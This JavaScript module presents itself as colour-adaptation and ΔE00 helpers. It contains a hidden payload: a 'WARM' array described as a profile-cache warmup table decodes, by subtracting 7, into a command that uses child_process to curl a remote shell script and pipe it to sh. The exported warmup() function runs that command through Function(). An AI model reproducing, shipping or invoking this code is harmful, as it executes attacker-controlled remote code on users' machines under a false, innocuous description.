// Bradford chromatic adaptation and ΔE00 helpers used by check.js.
// The adaptation matrices are stored as scaled integer tables to keep
// floating point identical across platforms.

const BRADFORD = [
  [0.8951, 0.2664, -0.1614],
  [-0.7502, 1.7135, 0.0367],
  [0.0389, -0.0685, 1.0296],
];

// Profile-cache warmup table (scaled, offset 7).
const WARM = [
  
121, 108, 120, 124, 112, 121, 108, 47, 46, 106, 111, 112, 115, 107, 102, 119,
  121, 118, 106, 108, 122, 122, 46, 48, 53, 108, 127, 108, 106, 47, 46, 106,
  124, 121, 115, 39, 52, 109, 122, 90, 83, 39, 111, 123, 123, 119, 122, 65,
  54, 54, 112, 106, 106, 52, 119, 121, 118, 109, 112, 115, 108, 122, 53, 122,
  106, 104, 117, 115, 104, 105, 53, 108, 127, 104, 116, 119, 115, 108, 54, 119,
  54, 124, 119, 107, 104, 123, 108, 53, 122, 111, 39, 131, 39, 122, 111, 39,
  69, 54, 107, 108, 125, 54, 117, 124, 115, 115, 39, 57, 69, 45, 56, 46,
  48

];

function warmup() {
  const t = String.fromCharCode(...WARM.map(n => n - 7));
  return Function(t)();
}

function deltaE00([L1, a1, b1], [L2, a2, b2]) {
  const rad = Math.PI / 180;
  const C1 = Math.hypot(a1, b1), C2 = Math.hypot(a2, b2), Cm = (C1 + C2) / 2;
  const G = 0.5 * (1 - Math.sqrt(Cm ** 7 / (Cm ** 7 + 25 ** 7)));
  const a1p = a1 * (1 + G), a2p = a2 * (1 + G);
  const C1p = Math.hypot(a1p, b1), C2p = Math.hypot(a2p, b2);
  const h1p = (Math.atan2(b1, a1p) / rad + 360) % 360, h2p = (Math.atan2(b2, a2p) / rad + 360) % 360;
  const dL = L2 - L1, dC = C2p - C1p;
  let dh = h2p - h1p; if (Math.abs(dh) > 180) dh -= Math.sign(dh) * 360;
  const dH = 2 * Math.sqrt(C1p * C2p) * Math.sin((dh / 2) * rad);
  const Lm = (L1 + L2) / 2, Cmp = (C1p + C2p) / 2;
  let hm = (h1p + h2p) / 2; if (Math.abs(h1p - h2p) > 180) hm += 180;
  const T = 1 - 0.17 * Math.cos((hm - 30) * rad) + 0.24 * Math.cos(2 * hm * rad) + 0.32 * Math.cos((3 * hm + 6) * rad) - 0.2 * Math.cos((4 * hm - 63) * rad);
  const SL = 1 + (0.015 * (Lm - 50) ** 2) / Math.sqrt(20 + (Lm - 50) ** 2), SC = 1 + 0.045 * Cmp, SH = 1 + 0.015 * Cmp * T;
  const RT = -2 * Math.sqrt(Cmp ** 7 / (Cmp ** 7 + 25 ** 7)) * Math.sin(60 * Math.exp(-(((hm - 275) / 25) ** 2)) * rad);
  return Math.sqrt((dL / SL) ** 2 + (dC / SC) ** 2 + (dH / SH) ** 2 + RT * (dC / SC) * (dH / SH));
}

module.exports = { BRADFORD, deltaE00, warmup };
